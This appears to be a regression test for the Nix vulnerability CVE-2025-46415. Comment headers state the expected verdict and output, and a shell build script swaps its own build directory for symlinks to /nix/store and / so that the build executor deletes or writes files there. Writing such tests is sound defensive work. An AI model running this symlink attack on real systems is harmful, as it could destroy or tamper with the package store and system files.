# CVE: CVE-2025-46415
# Wins: the executor removes, or writes files in, what the build directory has become
# Verdict: ok
# Then: [ -d $bb/bin ] || exit 10; echo ok > $out
# Output: right
here=$(pwd); cd /; rmdir $here 2>/dev/null; mv $here /tmp/was 2>/dev/null; ln -s /nix/store $here 2>/dev/null; ln -s / $here/root 2>/dev/null
mkdir $out; echo right > $out/f
